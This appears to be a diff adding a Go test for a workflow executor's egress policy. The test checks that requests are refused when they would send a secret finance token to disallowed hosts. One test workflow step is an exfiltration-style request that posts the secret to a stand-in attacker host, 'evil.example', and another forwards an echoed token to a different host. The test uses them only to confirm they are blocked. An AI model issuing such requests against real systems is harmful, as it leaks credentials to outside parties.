@@ -22,6 +22,7 @@ import (
 	"time"
 
 	"github.com/kobana/workflow/compile"
+	"github.com/kobana/workflow/egress"
 	"github.com/kobana/workflow/executor"
 	"github.com/kobana/workflow/executor/guard"
 	"github.com/kobana/workflow/resolve"
@@ -126,7 +127,7 @@ func recordJSON(t testing.TB, rec *runrecord.Run) string {
 }
 
 func TestSeedExampleEndToEnd(t *testing.T) {
-	doc, err := os.ReadFile("../examples/workflows/seed-complete.json")
+	doc, err := os.ReadFile("../examples/workflows/payable.json")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -176,7 +177,7 @@ func TestSeedExampleEndToEnd(t *testing.T) {
 	}
 }
 
-// TestFailBeforeSending proves that each case of SPEC 1.2 that fails a step
+// TestFailBeforeSending proves that each case the language fails a step for
 // before sending, or skips it, sends nothing.
 func TestFailBeforeSending(t *testing.T) {
 	cases := []struct {
@@ -650,5 +651,54 @@ func TestLoneSurrogateReadsOneWay(t *testing.T) {
 	}
 	if sent.V != "x\uFFFDy" || recorded.A != sent.V {
 		t.Errorf("sent %q, recorded %q (%s)", sent.V, recorded.A, rec.Steps[0].Response.Body)
+	}
+}
+
+// TestDestinationsRefusedBeforeSending: the policy is checked on the URL
+// after substitution and on every secret the request carries — put there
+// by a placeholder, or echoed back by an earlier response and forwarded —
+// and a refused step sends nothing, its record naming the secret and the
+// host; a URL secret goes to its own host; the egress list stops the rest.
+func TestDestinationsRefusedBeforeSending(t *testing.T) {
+	rv := newReceiver(t, func(w http.ResponseWriter, r *http.Request, got *received) {
+		w.Header().Set("Content-Type", "application/json")
+		io.WriteString(w, `{"next": "evil.example", "echo": "`+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")+`"}`)
+	})
+	g := allowLoopback()
+	ex := executor.New(executor.Options{Guard: g, Network: to(g, rv)})
+	doc := `{"result": 1, "workflow": [
+  {"type": "request", "method": "GET", "url": "https://erp.example.com/token", "headers": {"Authorization": "Bearer ${{secrets.FINANCE_TOKEN}}"}},
+  {"type": "request", "url": "https://${{steps.0.response.body.next}}/collect", "body": {"t": "${{secrets.FINANCE_TOKEN}}"}},
+  {"type": "request", "url": "https://hooks.example.net/x", "body": {"copied": "${{steps.0.response.body.echo}}"}},
+  {"type": "request", "url": "${{secrets.HOOK_URL}}", "body": {"text": "done"}},
+  {"type": "request", "url": "https://elsewhere.example/", "body": "hello"}
+]}`
+	e := env(resolve.SecretMap{"FINANCE_TOKEN": "fin-token-4242", "HOOK_URL": "https://hooks.example.net/T1/B2"})
+	allowed := egress.MustParseList("erp.example.com", "hooks.example.net")
+	e.Policy = &egress.Policy{Secrets: map[string]egress.Destinations{"FINANCE_TOKEN": egress.MustParseList("erp.example.com")}, Egress: &allowed, EgressOf: "agent Invoices (agt_1)"}
+	e.Policy.BindURLs(map[string]string{"HOOK_URL": "https://hooks.example.net/T1/B2"})
+	rec := ex.Run(t.Context(), compilePlan(t, doc), e)
+	want := []struct {
+		state  runrecord.State
+		reason runrecord.Reason
+		says   string
+	}{
+		{runrecord.Succeeded, "", ""},
+		{runrecord.Failed, runrecord.ReasonDestination, "not sent: evil.example is outside the egress list of agent Invoices (agt_1), which allows erp.example.com, hooks.example.net; secret FINANCE_TOKEN may be sent only to erp.example.com; evil.example is not one of its destinations"},
+		{runrecord.Failed, runrecord.ReasonDestination, "not sent: secret FINANCE_TOKEN may be sent only to erp.example.com; hooks.example.net is not one of its destinations"},
+		{runrecord.Succeeded, "", ""},
+		{runrecord.Failed, runrecord.ReasonDestination, "not sent: elsewhere.example is outside the egress list"},
+	}
+	for i, w := range want {
+		s := rec.Steps[i]
+		if s.State != w.state || s.Reason != w.reason || !strings.Contains(s.Error, w.says) {
+			t.Errorf("step %d: %s %s %q, want %s %s %q", i, s.State, s.Reason, s.Error, w.state, w.reason, w.says)
+		}
+	}
+	if n := rv.hits.Load(); n != 2 {
+		t.Errorf("the receiver got %d requests, want 2 (steps 0 and 3)", n)
+	}
+	if js := recordJSON(t, rec); strings.Contains(js, "fin-token-4242") {
+		t.Errorf("the record holds the secret: %s", js)
 	}
 }
